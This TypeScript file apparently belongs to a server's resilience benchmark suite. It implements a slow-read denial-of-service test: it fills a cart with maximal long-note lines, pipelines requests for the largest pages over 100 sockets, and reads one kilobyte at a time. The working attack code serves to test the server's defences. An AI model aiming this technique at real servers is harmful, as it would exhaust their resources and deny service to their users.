// Clients request the largest responses (full carts, the largest file of the theme, long pages) and read them very
// slowly.
//   node bench/attacks/slow-readers.ts
import { connect, type Socket } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";
import { createClient } from "../../test/support/client.ts";
import { runAttack } from "./attack.ts";

const CONNECTIONS = 100;
/** Milliseconds between two reads, and duration of the attack. */
const READ_INTERVAL_MS = 500;
const ATTACK_MS = 25_000;

await runAttack({ products: "demo" }, async ({ origin }) => {
  const { host } = new URL(origin);
  const cookie = await fillCart(origin);
  const requests = ["/cart.js", "/collections/all", "/sitemap.xml", "/cart", "/search?q=a"].map(
    (path) => `GET ${path} HTTP/1.1\r\nHost: ${host}\r\nCookie: ${cookie}\r\n\r\n`,
  );
  let closedCount = 0;
  let openCount = 0;
  const end = performance.now() + ATTACK_MS;
  const readSlowly = async (number: number): Promise<void> => {
    while (performance.now() < end) {
      const socket = openSlowSocket(origin);
      openCount += 1;
      // Requests ten responses at once, and reads a kilobyte at long intervals.
      socket.write((requests[number % requests.length] ?? "").repeat(10));
      while (performance.now() < end && !socket.destroyed) {
        await sleep(READ_INTERVAL_MS);
        socket.read(1_024);
      }
      if (socket.destroyed) closedCount += 1;
      socket.destroy();
    }
  };
  await Promise.all(Array.from({ length: CONNECTIONS }, (_, number) => readSlowly(number)));
  return [`${openCount} connections were opened, ${closedCount} of them closed by the server`];
});

/** Opens a socket that reads only on request. */
function openSlowSocket(origin: string): Socket {
  const { hostname, port } = new URL(origin);
  const socket = connect(Number(port), hostname);
  return socket.on("error", () => undefined).pause();
}

/** Creates a cart with the maximum number of lines of maximum length.  @returns its cookies */
async function fillCart(origin: string): Promise<string> {
  const client = createClient(origin);
  const { text } = await client.get("/search/suggest.json?q=a&resources[limit]=10");
  const suggestions = JSON.parse(text) as {
    readonly resources: { readonly results: { readonly products: readonly { readonly url: string }[] } };
  };
  for (const { url } of suggestions.resources.results.products) {
    const product = (await client.get(`${url.split("?")[0]}.js`)).json<{
      readonly variants: readonly { readonly id: number }[];
    }>();
    const id = product.variants[0]?.id;
    for (let round = 0; round < 20; round += 1) {
      const items = Array.from({ length: 5 }, (_, line) => ({
        id,
        quantity: 1,
        properties: { note: `${round} ${line} ${"x".repeat(900)}` },
      }));
      const { status } = await client.post("/cart/add.js", { items });
      if (status !== 200) break;
    }
  }
  return [...client.cookies].map(([name, value]) => `${name}=${value}`).join("; ");
}
